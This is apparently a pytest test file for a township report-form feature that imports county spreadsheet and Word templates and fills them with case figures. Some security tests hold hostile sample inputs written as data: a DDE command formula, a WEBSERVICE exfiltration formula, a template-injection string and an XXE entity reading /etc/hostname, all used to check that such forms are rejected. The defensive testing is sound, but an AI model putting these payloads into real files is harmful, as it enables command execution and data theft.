"""Forms of those above: what comes in is looked at, what is put in is text, and figures are those of the desk."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from typing import Any

import pytest

from shuoshi.kernel import clock
from shuoshi.kernel.papers.press import NotMade, Reason
from shuoshi.kernel.refusal import Refused
from shuoshi.kernel.verify import verify
from shuoshi.ledgers import actions, keeping
from shuoshi.ledgers.asked import Asked, NoSuchList
from shuoshi.ledgers.mapping import Chosen, Column, Days
from shuoshi.ledgers.models import Export, Failed, FileKind, ReportForm, ReportFormVersion
from shuoshi.matters.models import Matter
from shuoshi.matters.purpose import Purpose
from shuoshi.matters.vocabulary import Status
from tests.kernel.documents import words_of_docx
from tests.support.exports import carried_through
from tests.support.report_forms import document, lines, workbook
from tests.support.village import Place

pytestmark = pytest.mark.usefixtures("papers_made_here")


def taken_in(town: Place, data: bytes, name: str = "县月报") -> ReportFormVersion:
    form = keeping.take_in(name, data, [], actor=town.actor("管理员"))
    return keeping.newest_of(form.pk)


def chosen(version: ReportFormVersion, **changes: Any) -> Chosen:
    return replace(Chosen.read(version.settings), **changes)


def filled(town: Place, version: ReportFormVersion, figure: str = "new", who: str = "马镇长") -> bytes:
    period = f"{clock.local(clock.now()):%Y-%m}"
    asked = Asked(f"balance.{figure}", period=period, form=str(version.pk))
    kind = FileKind(version.kind)
    export = actions.ask(asked, "县月报", kind, Purpose.REPORT, actor=town.actor(who), key=f"{version.pk}{figure}"[:64])
    carried_through()
    return actions.take(export.pk, actor=town.actor(who))[1]


def test_their_columns_are_recognised_and_filled_in_their_words(town: Place):
    done, fresh = town.matter_in(Status.CLOSED), town.raise_matter()
    version = taken_in(town, workbook())
    found = Chosen.read(version.settings)
    assert (found.tab, found.top) == ("月报", 4)
    assert [one.what for one in found.columns] == ["place", "number", "registered", "category", "status", "", ""]
    assert found.unput == ["县里的备注", "经办"]
    columns = [*found.columns[:6], Column(7, "经办", "constant", "=青禾镇")]
    words = {"category": {"B6": "06"}, "status": {"CLOSED": "办完"}}
    version = keeping.choose(
        version.form_id,
        1,
        replace(found, columns=tuple(columns), words=words, days=Days.DASH, cells={"B2": "new", "A3": "青禾镇"}),
        actor=town.actor("管理员"),
    )
    data = filled(town, version)
    rows = lines(data)
    day = f"{clock.local(done.registered_at):%Y-%m-%d}"
    assert rows[1][1] == 2.0 and rows[2][0] == "青禾镇"
    assert rows[4][:5] == [1.0, done.number, day, "06", "办完"] and rows[4][6] == "=青禾镇"
    assert rows[5][1] == fresh.number and rows[5][4] == "待受理"
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        sheet, book = parts.read("xl/worksheets/sheet1.xml").decode(), parts.read("xl/workbook.xml").decode()
    assert sheet.count("<f>") == 1 and "COUNTA" in sheet, "their formula stays, and nothing of ours is one"
    assert 'fullCalcOnLoad="1"' in book
    assert list(verify()) == []


def test_a_word_document_is_filled_with_names_and_rows(town: Place):
    matter = town.raise_matter()
    version = taken_in(town, document())
    said = words_of_docx(filled(town, version))
    assert "新登记1件" in said and matter.number in said and "待受理" in said and "马镇长" in said


def test_a_form_of_text_has_their_headings_and_no_line_of_ours(town: Place):
    matter = town.raise_matter()
    form = keeping.take_in("县平台", b"", ["工单编号", "办理状态", "+备注"], actor=town.actor("管理员"))
    text = filled(town, keeping.newest_of(form.pk)).decode("utf-8-sig").splitlines()
    assert text == ["工单编号,办理状态,'+备注", f"{matter.number},待受理,"]


def test_another_choice_is_another_version_and_two_administrators_do_not_undo_each_other(town: Place):
    version, admin = taken_in(town, workbook()), town.actor("管理员")
    second = keeping.choose(version.form_id, 1, chosen(version, days=Days.PLAIN), actor=admin)
    assert (second.number, second.sha256, second.stored != version.stored) == (2, version.sha256, True)
    again = keeping.choose(version.form_id, 1, chosen(version, days=Days.PLAIN), actor=admin)
    assert again.pk == second.pk, "the same again changes nothing"
    with pytest.raises(Refused, match="改过"):
        keeping.choose(version.form_id, 1, chosen(version, days=Days.SLASH), actor=admin)
    keeping.drop(version.form_id, actor=admin)
    keeping.drop(version.form_id, actor=admin)
    with pytest.raises(Refused, match="停用"):
        keeping.choose(version.form_id, 2, chosen(version, days=Days.SLASH), actor=admin)
    keeping.take_in("县月报", workbook(), [], actor=admin)
    with pytest.raises(Refused, match="换一个名字"):
        keeping.take_in("县月报", workbook(), [], actor=admin)
    assert list(verify()) == []


def test_only_administrators_arrange_forms(town: Place):
    version = taken_in(town, workbook())
    for deed in (
        lambda actor: keeping.take_in("x", workbook(), [], actor=actor),
        lambda actor: keeping.choose(version.form_id, 1, chosen(version, days=Days.PLAIN), actor=actor),
        lambda actor: keeping.drop(version.form_id, actor=actor),
    ):
        with pytest.raises(Refused, match="系统管理员"):
            deed(town.actor("马镇长"))
    assert ReportForm.objects.filter(active=True).count() == ReportFormVersion.objects.count() == 1


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"cells": {"D2": "new"}}, "公式"),
        ({"cells": {"B9": "new"}}, "列名下面"),
        ({"cells": {"2B": "new"}}, "B2"),
        ({"tab": "没有"}, "工作表"),
    ],
)
def test_what_cannot_be_filled_is_told_before_it_is_kept(town: Place, changes: dict[str, Any], why: str):
    version = taken_in(town, workbook())
    with pytest.raises(Refused, match=why):
        keeping.choose(version.form_id, 1, chosen(version, **changes), actor=town.actor("管理员"))


def test_rows_never_run_over_what_stands_beneath(town: Place):
    for _ in range(3):
        town.raise_matter()
    with pytest.raises(Refused, match="最多 2 行"):
        filled(town, taken_in(town, workbook("", "", "合计"), "短的"))
    full = taken_in(town, workbook("例：SS-1"), "满的")
    assert keeping.faults(full, Chosen.read(full.settings)) == [
        "列名下面一行就有内容，一件也填不进。请在表里删掉示例行，再传一次。"
    ]


def test_a_form_that_got_too_short_meanwhile_fails_and_says_why(town: Place):
    version = taken_in(town, workbook("", "合计"))
    town.raise_matter()
    period = f"{clock.local(clock.now()):%Y-%m}"
    asked = Asked("balance.new", period=period, form=str(version.pk))
    export = actions.ask(asked, "县月报", FileKind.XLSX, Purpose.REPORT, actor=town.actor("马镇长"), key="x" * 20)
    town.raise_matter()
    carried_through()
    assert Export.objects.get(pk=export.pk).why == Failed.TOO_LONG


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"PK\x03\x04 no archive", Reason.NOT_XLSX),
        (b"<html>", Reason.NOT_XLSX),
        (workbook(formula='=WEBSERVICE("http://x/"&B5)'), Reason.LIVE_FIELD),
        (workbook(formula="=cmd|' /C calc'!A0"), Reason.LIVE_FIELD),
        (workbook(link="https://example.org/x"), Reason.EXTERNAL),
        (document(about="{{ 编号.__class__ }}"), Reason.NOT_ALLOWED),
        (document(loop="{% for 编号, 状态 in 事项 %}"), Reason.WRONG_WIDTH),
        (b"x" * (3 * 1024 * 1024 + 1), Reason.TOO_BIG),
    ],
)
def test_hostile_forms_are_not_taken_in(town: Place, data: bytes, reason: Reason):
    with pytest.raises(NotMade) as refused:
        keeping.take_in("坏的", data, [], actor=town.actor("管理员"))
    assert refused.value.reason == reason and not ReportForm.objects.exists()


@pytest.mark.parametrize("added", ["xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml", "xl/connections.xml"])
def test_what_brings_code_or_connections_along_is_not_taken_in(town: Place, added: str):
    made = io.BytesIO(workbook())
    with zipfile.ZipFile(made, "a") as parts:
        parts.writestr(added, "<x/>")
    with pytest.raises(NotMade):
        keeping.take_in("坏的", made.getvalue(), [], actor=town.actor("管理员"))


def test_entities_are_not_followed(town: Place):
    given, made = zipfile.ZipFile(io.BytesIO(workbook())), io.BytesIO()
    with zipfile.ZipFile(made, "w") as parts:
        for name in given.namelist():
            part = given.read(name)
            if name == "xl/sharedStrings.xml":
                part = part.replace(b"<sst", b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n<sst', 1)
            parts.writestr(name, part)
    with pytest.raises(NotMade) as refused:
        keeping.take_in("坏的", made.getvalue(), [], actor=town.actor("管理员"))
    assert refused.value.reason == Reason.BOMB


def test_nobody_fills_a_form_who_sees_no_figures(town: Place):
    version = taken_in(town, workbook())
    with pytest.raises(NoSuchList):
        filled(town, version, who="孙丽")
    keeping.drop(version.form_id, actor=town.actor("管理员"))
    with pytest.raises(NoSuchList):
        filled(town, version)
    assert not Export.objects.exists() and not Matter.objects.exists()
